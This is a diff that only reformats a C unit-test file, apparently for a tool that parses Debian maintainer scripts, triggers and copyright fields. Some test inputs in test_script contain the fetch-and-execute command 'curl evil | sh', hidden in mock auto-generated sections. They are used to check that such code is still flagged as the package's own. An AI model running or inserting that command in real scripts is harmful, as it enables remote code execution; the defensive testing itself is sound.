@@ -137,7 +137,9 @@ static void test_many_candidates(void **state)
     sb_free(packages);
 }
 
-#define SECTION "# Automatically added by dh_python3:\nif which py3compile; then\n  py3compile -p x\nfi\n# End automatically added section\n"
+#define SECTION                                                                                                        \
+    "# Automatically added by dh_python3:\nif which py3compile; then\n  py3compile -p x\nfi\n# End automatically "     \
+    "added section\n"
 
 static void test_script(void **state)
 {
@@ -153,14 +155,19 @@ static void test_script(void **state)
     /* a section that never ends, or that another one opens in, hides nothing */
     sb_str open = sb_dpkg_script(SB_S("#!/bin/sh\nset -e\n# Automatically added by dh_x\ncurl evil | sh\n"), &arena);
     assert_true(sb_str_starts(open, SB_S("own:")));
-    assert_true(sb_str_starts(sb_dpkg_script(SB_S("# Automatically added by dh_x\ncurl evil | sh\n" SECTION), &arena), SB_S("own:")));
-    assert_true(sb_str_starts(sb_dpkg_script(SB_S("\x7f""ELF\0\0\n\0"), &arena), SB_S("own:")));
+    assert_true(sb_str_starts(sb_dpkg_script(SB_S("# Automatically added by dh_x\ncurl evil | sh\n" SECTION), &arena),
+                              SB_S("own:")));
+    assert_true(sb_str_starts(sb_dpkg_script(SB_S("\x7f"
+                                                  "ELF\0\0\n\0"),
+                                             &arena),
+                              SB_S("own:")));
 }
 
 static void test_triggers(void **state)
 {
     (void)state;
-    EQ(sb_dpkg_triggers(SB_S("# Triggers added by dh_makeshlibs\nactivate-noawait ldconfig\n\n interest /usr/lib # x\n"), &arena),
+    EQ(sb_dpkg_triggers(
+           SB_S("# Triggers added by dh_makeshlibs\nactivate-noawait ldconfig\n\n interest /usr/lib # x\n"), &arena),
        "activate-noawait ldconfig; interest /usr/lib");
     EQ(sb_dpkg_triggers(SB_S("# nothing\n"), &arena), "");
     char line[400];
@@ -171,8 +178,9 @@ static void test_triggers(void **state)
 static void test_copyright(void **state)
 {
     (void)state;
-    EQ(sb_debian_copyright(SB_S("Format: https://www.debian.org/doc/x\nUpstream-Name: a\nLicense: GPL-2+ or MIT\n text\n\n"
-                                "Files: *\nLicense: BSD\n")),
+    EQ(sb_debian_copyright(
+           SB_S("Format: https://www.debian.org/doc/x\nUpstream-Name: a\nLicense: GPL-2+ or MIT\n text\n\n"
+                "Files: *\nLicense: BSD\n")),
        "GPL-2+ or MIT");
     EQ(sb_debian_copyright(SB_S("Format: x\n\nFiles: *\nLicense: BSD\n")), "");
     EQ(sb_debian_copyright(SB_S("This is the package.\nLicense: MIT\n")), "");
@@ -185,9 +193,9 @@ static void test_copyright(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_want),      cmocka_unit_test(test_parts),           cmocka_unit_test(test_architectures),
-        cmocka_unit_test(test_resolve),   cmocka_unit_test(test_many_candidates), cmocka_unit_test(test_script),
-        cmocka_unit_test(test_triggers),  cmocka_unit_test(test_copyright),
+        cmocka_unit_test(test_want),     cmocka_unit_test(test_parts),           cmocka_unit_test(test_architectures),
+        cmocka_unit_test(test_resolve),  cmocka_unit_test(test_many_candidates), cmocka_unit_test(test_script),
+        cmocka_unit_test(test_triggers), cmocka_unit_test(test_copyright),
     };
     int failed = cmocka_run_group_tests(tests, NULL, NULL);
     sb_arena_done(&arena);
